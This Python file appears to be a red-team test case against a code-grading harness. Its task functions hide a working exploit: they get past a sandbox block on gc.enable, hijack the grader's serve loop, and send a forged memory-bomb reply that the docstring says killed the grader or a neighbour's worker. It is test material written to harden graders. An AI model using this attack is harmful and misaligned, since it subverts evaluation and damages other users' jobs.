"""Attack: run on the worker's serve loop through the garbage collector, then answer the grader with
a reply of its own: 15 MiB of ``[{},{},...]`` as the current request's DONE.

``gc.enable`` refuses in the sandbox, so the collector is switched on again through a fresh copy of
the ``gc`` module (``importlib.util.module_from_spec``), by a thread that keeps switching it on
(the serve loop switches it off before each request and reply); a finalizer that runs on the main thread
walks up to the serve loop, takes its socket and request number, and sends the frame. (In the
first independent attack round, 64 MiB of it made the grader hold 2 GB: OOM-killed in a 768 MB
container, and in a memory-limited batch an honest neighbour's worker was killed instead.)

What must hold instead: the grader never trusts the channel: a document with more containers than
a value may hold is refused before it is parsed, so its memory stays bounded and only this call
fails; honest neighbours keep their solo scores.
"""
import importlib.util
import struct
import sys
import threading

MAIN = threading.main_thread().ident
SENT = []


def _forge(serve):
    sock, rid = serve.f_locals["sock"], serve.f_locals["rid"]
    body = b"[" + b"{}," * (5 * 1024 * 1024) + b"{}]"
    payload = struct.pack("<Q", len(body)) + body + struct.pack("<Q", 0)
    frame = struct.pack("<Q", 13 + len(payload)) + struct.pack("<BQI", 11, rid, 0) + payload
    view = memoryview(frame)
    while len(view):
        view = view[sock.sendmsg([view]):]
    SENT.append(len(frame))


class _Bomb:
    def __init__(self):
        self.me = self

    def __del__(self):
        if threading.get_ident() != MAIN:
            _Bomb()  # stay in the collector's way until it runs on the main thread
            return
        if SENT:
            return
        f = sys._getframe()
        while f is not None and f.f_code.co_name != "_serve":
            f = f.f_back
        if f is not None:
            _forge(f)


def _collector_on():
    """The serve loop turns collection off before each request and each reply: a thread of ours
    turns it on again, all the time, to win the race."""
    gc = importlib.util.module_from_spec(importlib.util.find_spec("gc"))
    gc.set_threshold(1, 1, 1)

    def keep_on():
        while not SENT:
            gc.enable()

    threading.Thread(target=keep_on, daemon=True).start()


def sequence_length(h, w, p):
    if not SENT:
        _collector_on()
        for _ in range(100):
            _Bomb()
    return (h // p) * (w // p)


def cfg_combine(eps_cond, eps_uncond, scale):
    raise RuntimeError(f"sent: {SENT}")
